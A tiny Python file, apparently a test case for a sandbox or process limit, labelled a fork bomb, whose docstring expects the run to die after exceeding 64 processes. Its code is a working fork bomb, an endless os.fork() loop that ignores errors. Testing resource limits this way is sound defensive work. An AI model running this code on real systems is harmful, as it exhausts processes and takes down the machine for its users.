"""A fork bomb.

earns: nothing
finds: died
report: more than 64 processes
"""
# %% first cell
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
